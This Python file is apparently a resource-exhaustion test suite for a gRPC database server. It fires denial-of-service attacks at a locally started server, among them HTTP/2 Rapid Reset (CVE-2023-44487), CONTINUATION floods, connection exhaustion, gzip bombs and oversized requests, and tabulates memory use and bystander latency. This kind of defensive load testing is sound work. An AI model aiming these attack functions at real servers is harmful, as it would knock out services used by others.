"""What a client can do to a server's memory. Each attack is a function of a target; `python3 attacks.py` runs them in
full size, each against a server of its own, and prints a table: the largest resident memory, that of a minute later,
and how long a bystander's Gets took meanwhile."""

import argparse
import gzip
import pathlib
import re
import sys
import threading
import time

import grpc

import harness
import http2

SQL = """
CREATE TABLE item (id integer PRIMARY KEY, body text NOT NULL DEFAULT '');
INSERT INTO item VALUES (1, 'small');
CREATE TABLE many (id integer PRIMARY KEY, body text NOT NULL DEFAULT '');
INSERT INTO many SELECT i, repeat(md5(i::text), 128) FROM generate_series(1, 1000) i;
CREATE TABLE large (id integer PRIMARY KEY, body text NOT NULL DEFAULT '');
ALTER TABLE large ALTER body SET STORAGE EXTERNAL;
INSERT INTO large SELECT i, repeat(md5(i::text), 65536) FROM generate_series(1, 100) i;
CREATE TABLE doubled (id integer PRIMARY KEY, a text, b text,
  both_of_them text GENERATED ALWAYS AS (coalesce(a, '') || coalesce(b, '')) STORED);
"""

REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

HUGE = """
CREATE TABLE huge (id integer PRIMARY KEY, body text NOT NULL DEFAULT '');
INSERT INTO huge SELECT i, repeat('x', 200000000) FROM generate_series(1, 3) i;
"""


class Target:
    """A server under attack, with what the attacks need to know of it."""

    def __init__(self, uri, database, *options):
        self.server = harness.Server(uri, *options)
        self.contract = harness.Contract(uri)
        self.client = harness.Client(self.server, self.contract)
        self.package = database + ".v1"
        self.get = f"/{self.package}.ItemService/GetItem"
        self.peers = []

    def peer(self, **options):
        peer = http2.Peer(self.server.port, **options)
        self.peers.append(peer)
        return peer

    def let_go(self):
        for peer in self.peers:
            peer.close()
        self.peers.clear()

    def close(self):
        self.let_go()
        self.server.close()

    def status(self, name):
        text = pathlib.Path(f"/proc/{self.server.process.pid}/status").read_text()
        return int(re.search(name + r":\s+(\d+)", text).group(1)) / 1024

    def peak_mb(self):
        """The largest resident memory that the process has had."""
        return self.status("VmHWM")

    def rss_mb(self):
        return self.status("VmRSS")

    def requests(self, method, requests, wait=True, timeout=60):
        """Many calls at once; the codes that came."""
        stub = self.client.stub(method)
        requests = [self.client.request(method, r) if isinstance(r, dict) else r for r in requests]
        futures = [stub.future(request, timeout=timeout) for request in requests]
        return [future.code() for future in futures] if wait else futures


class Bystander:
    """Gets from a client of its own, one after the other."""

    def __init__(self, target):
        self.client = harness.Client(target.server, target.contract)
        self.answered = self.failed = 0
        self.slowest = 0.0
        self.errors = {}
        self.running = True
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while self.running:
            begin = time.monotonic()
            try:
                self.client.raw("GetItem", {"id": 1}, timeout=10)
                self.answered += 1
            except grpc.RpcError as error:
                self.failed += 1
                name = error.code().name
                self.errors[name] = self.errors.get(name, 0) + 1
            self.slowest = max(self.slowest, time.monotonic() - begin)
            time.sleep(0.01)

    def stop(self):
        self.running = False
        self.thread.join(15)


def until_idle(target, seconds=10):
    """Returns when the server does nothing any more, or `seconds` are over."""
    end = time.monotonic() + seconds * harness.PATIENCE
    idle = False
    while not idle and time.monotonic() < end:
        before = target.server.cpu_seconds()
        time.sleep(0.5)
        idle = target.server.cpu_seconds() - before < 0.05


def reset_streams(target, count=200_000):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    peer = target.peer()
    requests = http2.Requests(target.get)
    out = bytearray()
    for i in range(count):
        stream = 2 * i + 1
        out += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, requests.block())
        out += http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL)
        if len(out) > 1 << 16:
            if not peer.send(bytes(out)):
                return
            out.clear()
    peer.send(bytes(out))


def open_streams(target, count=100_000):
    """Streams that are opened and left so, by a client that acknowledges no limit of them."""
    peer = target.peer(acknowledges=False)
    requests = http2.Requests(target.get)
    out = bytearray()
    for i in range(count):
        out += http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * i + 1, requests.block())
        if len(out) > 1 << 16:
            if not peer.send(bytes(out)):
                return
            out.clear()
    peer.send(bytes(out))


def continuations(target, megabytes=700, seconds=20):
    """A header that never ends (CVE-2024-27316 and kin)."""
    peer = target.peer()
    begun = b"\x00" + http2.string("x") + http2.integer(1 << 30, 7, 0)
    peer.send(http2.frame(http2.HEADERS, 0, 1, http2.Requests(target.get).block() + begun))
    chunk = http2.frame(http2.CONTINUATION, 0, 1, b"y" * 16384) * 16
    end = time.monotonic() + seconds
    for _ in range(megabytes * 4):
        if time.monotonic() > end or not peer.send(chunk):
            return


def connections(target, count=9_000):
    """Connections that are opened and left so."""
    for _ in range(count):
        try:
            peer = http2.Peer(target.server.port, reads=False)
        except OSError:
            break
        target.peers.append(peer)


def gzip_bombs(target, megabytes=1_000, count=4):
    """Requests of zeros that are small until they are inflated."""
    zeros = gzip.compress(bytes(megabytes << 20), 9)
    peers = [target.peer() for _ in range(count)]
    for peer in peers:
        block = http2.Requests(target.get, grpc_encoding="gzip").block()
        peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block))
    body = http2.data(1, http2.message(zeros, True))
    threads = [threading.Thread(target=peer.send, args=(body,)) for peer in peers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    until_idle(target)


def unread_answers(target, count=2_000):
    """Gets of rows of 2 MB by a client that reads no answer."""
    path = f"/{target.package}.LargeService/GetLarge"
    for begin in range(0, count, 500):
        peer = target.peer(reads=False, window=0)
        requests = http2.Requests(path)
        out = b""
        for i in range(min(500, count - begin)):
            stream = 2 * i + 1
            out += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, requests.block())
            out += http2.data(stream, http2.message(bytes([8, 1 + i % 100])))
        peer.send(out)
    time.sleep(8)


def reflection_of(symbol):
    """A ServerReflectionRequest with a file_containing_symbol."""
    size, varint = len(symbol), bytearray()
    while size >= 128:
        varint.append(size & 127 | 128)
        size >>= 7
    return b"\x22" + varint + bytes([size]) + symbol.encode()


def unread_reflections(target, count=20):
    """A thousand streams of reflection a connection, each for a table's file, by a client that reads no answer."""
    asked = http2.message(reflection_of(f"{target.package}.LargeService"))
    for _ in range(count):
        peer = target.peer(reads=False, window=0)
        requests = http2.Requests(REFLECTION)
        out = b""
        for stream in range(1, 2000, 2):
            out += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, requests.block())
            out += http2.data(stream, asked, last=False)
        peer.send(out)
    until_idle(target)


def large_reflections(target, count=500, size=4 << 20):
    """Streams of reflection that ask for names of 4 MiB, by a client that reads no answer."""
    channel = grpc.insecure_channel(f"127.0.0.1:{target.server.port}", options=[("grpc.http2.bdp_probe", 0)])
    target.peers.append(channel)
    asked = reflection_of("x" * (size - 100))
    calls = [channel.stream_stream(REFLECTION)(iter([asked])) for _ in range(count)]
    until_idle(target)
    return calls


def large_page(target):
    """A page of three rows of 200 MB."""
    target.requests("ListHuges", [{}])


def large_gets(target, count=200):
    """Gets of rows of 2 MB that wait together."""
    return target.requests("GetLarge", [{"id": 1 + i % 100} for i in range(count)])


def large_batch(target):
    """A BatchGet of 100 rows of 2 MB, four times at once."""
    return target.requests("BatchGetLarges", [{"requests": [{"id": i} for i in range(1, 101)]}] * 4)


def large_lists(target, count=16):
    """Lists of 100 rows of 2 MB at once."""
    return target.requests("ListLarges", [{"page_size": 1000}] * count)


def operations(target, *requests):
    """A TransactRequest of (method, fields)."""
    transaction = target.contract.message("protogres.v1.TransactRequest")()
    for method, fields in requests:
        request = target.client.request(method, fields)
        part = transaction.operations.add().request
        part.type_url = "type.googleapis.com/" + request.DESCRIPTOR.full_name
        part.value = request.SerializeToString()
    return transaction


def transact_lists(target, count=1_000):
    """A Transact of many Lists, whose answer is gigabytes."""
    request = operations(target, ("CreateItem", {"item": {"id": 7, "body": "made"}}),
                         *[("ListManies", {"page_size": 1000})] * (count - 1))
    return target.requests("Transact", [request], timeout=120)


def waiting_requests(target, count=2_000, size=4 << 20):
    """Requests of 4 MiB, more than can be worked on."""
    item = target.client.request("CreateItem", {"item": {"id": 1, "body": "x" * (size - 100)}}).SerializeToString()
    stubs = [harness.Client(target.server, target.contract).stub("CreateItem") for _ in range(4)]
    futures = [stubs[i % 4].future(item, timeout=120) for i in range(count)]
    return [future.code() for future in futures]


def doubling_bindings(target, steps=30):
    """A Transact in which each operation is given the text that the one before made, twice."""
    request = operations(target, *[("CreateDoubled", {"doubled": {"id": 1 + i, **({} if i else {"a": "x" * 16, "b": ""})}})
                                   for i in range(steps)])
    for i in range(1, steps):
        for field in ("a", "b"):
            request.operations[i].bindings.add(field="doubled." + field, operation=i - 1, **{"from": "both_of_them"})
    return target.requests("Transact", [request], timeout=120)


ATTACKS = [reset_streams, open_streams, continuations, connections, gzip_bombs, unread_answers, unread_reflections,
           large_reflections, large_page, large_gets, large_batch, large_lists, transact_lists, doubling_bindings,
           waiting_requests]


def run(attack, uri, database, options, wait):
    target = Target(uri, database, *options)
    try:
        idle = target.rss_mb()
        bystander = Bystander(target)
        begin = time.monotonic()
        attack(target)
        took = time.monotonic() - begin
        time.sleep(1)
        bystander.stop()
        target.let_go()
        time.sleep(wait)
        print(f"| {attack.__name__} | {idle:.0f} | {target.peak_mb():.0f} | {target.rss_mb():.0f} | "
              f"{bystander.slowest:.2f} s, {bystander.answered} answered, {bystander.failed} not {bystander.errors or ''} | {took:.0f} s",
              flush=True)
    finally:
        target.close()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", nargs="*", help="names of attacks; none: all")
    parser.add_argument("--wait", type=float, default=60)
    parser.add_argument("--option", action="append", default=[])
    chosen = parser.parse_args()
    uri = harness.postgres().create("attacked", SQL + HUGE)
    print("| attack | idle MB | largest MB | later MB | bystander's Gets | took")
    for attack in ATTACKS:
        if not chosen.attack or attack.__name__ in chosen.attack:
            run(attack, uri, "attacked", chosen.option, chosen.wait)


if __name__ == "__main__":
    sys.exit(main())
